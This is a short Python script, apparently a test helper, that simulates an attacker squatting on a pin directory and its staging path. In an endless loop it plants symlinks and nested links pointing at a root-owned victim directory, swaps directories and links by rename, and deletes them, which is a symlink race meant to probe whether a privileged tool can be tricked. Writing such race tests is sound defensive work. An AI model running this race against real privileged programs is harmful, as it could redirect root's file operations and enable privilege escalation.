#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Takes the names of a pin directory and its stage as fast as it can, as an attacker would.

    squat.py PINS VICTIM     until it is killed; VICTIM: a directory of root's to lead others to
"""
import itertools
import os
import sys


def attempt(call, *args, **kwargs):
    try:
        call(*args, **kwargs)
    except OSError:
        pass


def vanish(path):
    attempt(os.unlink, path)
    for name in ("internal", "progs", "links", "dst4"):
        attempt(os.unlink, f"{path}/{name}")
        attempt(os.rmdir, f"{path}/{name}")
    attempt(os.rmdir, path)


def link(path, victim):
    attempt(os.symlink, victim, path)


def empty(path, _victim):
    attempt(os.mkdir, path, 0o777)


def nested(path, victim):
    attempt(os.mkdir, path, 0o777)
    for name in ("internal", "progs", "links", "dst4"):
        attempt(os.symlink, victim, f"{path}/{name}")


def swapped(path, victim):
    """A directory that becomes a link, and a directory again."""
    aside = f"{path}_x"
    attempt(os.mkdir, aside, 0o777)
    attempt(os.symlink, victim, f"{aside}/internal")
    attempt(os.rename, aside, path)
    attempt(os.rename, path, aside)
    link(path, victim)
    attempt(os.unlink, path)
    attempt(os.rename, aside, path)
    vanish(aside)


def main(pins, victim):
    print("squatting", flush=True)
    for trick, name in itertools.cycle(itertools.product(
            (nested, link, swapped, empty), (f"{pins}_stage", pins))):
        trick(name, victim)
        vanish(name)


main(*sys.argv[1:3])
